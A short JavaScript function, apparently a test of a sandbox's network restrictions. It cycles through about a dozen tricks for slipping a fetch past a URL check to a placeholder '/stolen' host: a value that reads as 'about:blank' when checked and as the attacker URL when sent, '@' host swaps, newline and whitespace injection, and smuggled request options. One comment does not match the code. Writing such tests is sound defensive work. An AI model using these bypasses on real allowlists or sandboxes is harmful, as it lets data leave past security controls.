// Is one URL when it is checked and another when it is sent.
// says: Keeps 10 in flight: a window of 10.
async function attempt(urls) {
  let looks = 0;
  const server = "__SERVER__/stolen?two-faced";
  const twoFaced = {
    toString: () => (looks++ === 0 ? "about:blank" : server),
    [Symbol.toPrimitive]: () => (looks++ === 0 ? "about:blank" : server),
    get url() {
      return looks++ === 0 ? "about:blank" : server;
    },
  };
  const ways = [
    () => fetch(twoFaced),
    () => fetch(new URL("/stolen?url", server)),
    () => fetch(new Request(server)),
    () => fetch({ url: server }),
    () => fetch([server]),
    () => fetch(`${urls[0]}@${new URL(server).host}`),
    () => fetch(`${urls[0]}\n${server}`),
    () => fetch(` ${server}#${urls[0]}`),
    () => fetch(server.replace("http:", "")),
    () => fetch("", { url: server, referrer: server, body: server, method: "POST" }),
    () => fetch(urls.length),
    () => fetch(),
  ];
  for (const way of ways) {
    try {
      await Promise.race([way(), new Promise((end) => setTimeout(end, 100))]);
    } catch {
      // refused
    }
  }
}
